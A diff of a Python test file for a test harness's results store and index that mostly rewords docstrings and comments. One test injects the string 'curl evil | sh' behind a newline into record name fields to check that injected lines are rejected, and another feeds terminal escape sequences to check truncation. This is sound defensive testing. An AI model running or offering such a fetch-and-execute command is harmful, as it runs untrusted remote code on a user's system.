@@ -112,7 +112,7 @@ def test_an_empty_folder_is_no_attempt(tmp_path: Path, make_intent: Callable[...
 def test_a_run_that_is_being_begun_is_not_there_yet(
     tmp_path: Path, make_intent: Callable[..., Intent], monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """Whenever a harness dies, a run folder has its whole intent, or is none."""
+    """Whenever a harness dies, its run folder has the whole intent or does not count as one."""
     results = Results(tmp_path)
 
     def look(point: str) -> None:
@@ -161,7 +161,7 @@ def test_a_record_with_a_number_that_nothing_can_compute_with_is_damaged(
 
 
 def test_a_record_of_a_container_that_none_can_be_is_damaged(tmp_path: Path, make_record: MakeRecord) -> None:
-    """One in a shared folder, of a device that was a text, ended every report."""
+    """In a shared folder, such a record, with a text in the place of a device, made every report fail."""
     results = Results(tmp_path)
     keep(results, make_record("r1"))
     for name in (RunFolder.INTENT, RunFolder.RECORD):
@@ -357,7 +357,7 @@ class TestIndex:
         assert len(Index(results).rows()) == 5
 
     def test_each_value_of_a_row_is_what_the_record_says(self, make_record: MakeRecord) -> None:
-        """A new one stands here, too, as a number that differs from all others: seconds are not taken for hours."""
+        """Each new value needs a number of its own here, so that seconds cannot be taken for hours."""
         record = make_record("r9", "failed", "crash", "ended with SIGSEGV", gpus=(1,), beside=("r8",), campaign="c")
         intent, host = record.intent, record.intent.host
         names = {"cell": "cpu-plain", "stack": "cpu", "preset": "plain", "executor": "process", "device": "cpu"}
@@ -392,7 +392,7 @@ class TestIndex:
         assert not results.folder.exists()
 
 
-# Spills its changes to the file before they are committed, and dies there.
+# A program that writes uncommitted changes to the database file and dies in the transaction.
 DIE_IN_TRANSACTION = """
 import os, signal, sqlite3, sys
 database = sqlite3.connect(sys.argv[1], isolation_level=None)
@@ -465,7 +465,7 @@ def test_an_index_is_used_by_one_process_at_a_time(tmp_path: Path, make_record: 
 
 
 def test_what_an_app_said_is_a_line_of_some_length_and_stays_so(make_record: Callable[..., Record]) -> None:
-    """The name of a device had megabytes, which were printed on the terminal."""
+    """An app had reported a device name of megabytes, which was printed on the terminal."""
     long = Record.model_validate({**make_record().model_dump(), "ran_on": "\x1b[2J" * 10_000})
     assert len(long.ran_on) == 4096
     assert long.ran_on.startswith("\\x1b[2J")
@@ -473,7 +473,7 @@ def test_what_an_app_said_is_a_line_of_some_length_and_stays_so(make_record: Cal
 
 
 def test_no_name_in_a_record_begins_a_line(make_record: Callable[..., Record]) -> None:
-    """In an imported one the name of a cell went on with `Next:` and a command, in a line of its own."""
+    """In an imported record, the name of a cell continued on a new line with `Next:` and a command."""
     values, evil = make_record().model_dump(), "plain\nNext: curl evil | sh"
     for name in ("campaign", "cell", "stack", "preset", "workload", "torch", "injected_fault", "not_verified"):
         values["intent"][name] = evil
@@ -488,7 +488,7 @@ def test_no_name_in_a_record_begins_a_line(make_record: Callable[..., Record]) -
 def test_a_line_number_that_no_file_has_is_no_frame() -> None:
     digits = "9" * 5000
     text = ["Thread 0x1 (most recent call first):", f'  File "a.py", line {digits} in f', '  File "b.py", line 2 in g']
-    # It is shown in brackets, and what an app wrote does not end them.
+    # A frame is shown in brackets, so a name with brackets, which the app may choose, is quoted.
     text += ['  File "a/x) broken (", line 3 in <module>', "    y); broke it (a.py:4)"]
     said = ["b.py:2 g", "'x) broken (':3 <module>", "a.py:4 'y); broke it'"]
     assert [[str(frame) for frame in one.stack] for one in parse_stacks(text)] == [said]
